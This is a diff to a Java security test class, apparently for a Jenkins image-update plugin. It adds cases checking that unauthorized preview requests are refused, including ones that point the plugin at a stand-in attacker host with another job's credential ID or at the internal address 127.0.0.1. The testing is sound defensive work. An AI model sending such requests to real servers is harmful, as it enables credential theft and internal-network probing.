@@ -65,6 +65,22 @@ final class FormAttacks {
                         "administrator",
                         HttpMethod.GET,
                         REGISTRY + TEST),
+                refused("a reader asks a registry by a preview", "403", "reader", HttpMethod.POST, preview("")),
+                refused("a link makes an author ask one", "404", "author", HttpMethod.GET, preview("")),
+                new Attack(
+                        "a credential that is not the job's",
+                        "a preview with one of another folder",
+                        "no credential with id 'team-robot' can be used here",
+                        () -> {
+                            String answer = scene.post("author", preview("team-robot"));
+                            scene.assertNothingGiven();
+                            return answer.replace("&#039;", "'");
+                        }),
+                new Attack(
+                        "the internal network",
+                        "an author previews an image at an internal address",
+                        "has the internal address 127.0.0.1, which only a registry may have that an administrator listed",
+                        () -> scene.post("author", preview("").replace("/open/", "/closed/"))),
                 refused("a link makes an author list credentials", "404", "author", HttpMethod.GET, IMAGE + FILL),
                 new Attack(
                         "the names of jobs",
@@ -124,6 +140,11 @@ final class FormAttacks {
 
     private static final String TEST = "testConnection?prefix=gcr.io&testImage=&timeoutSeconds=1";
     private static final String FILL = "fillCredentialsIdItems?credentialsId=x";
+
+    private String preview(String credentialsId) {
+        return "job/other/job/app/descriptorByName/io.jenkins.plugins.imageupdate.policy.NewestTags/preview?max=1&reference="
+                + scene.evil.host() + "/open/app:1&credentialsId=" + credentialsId;
+    }
 
     private Attack listing(String tried, String refusal, String user, String descriptor) {
         return new Attack("the names of credentials", tried, refusal, () -> scene.post(user, descriptor + FILL));
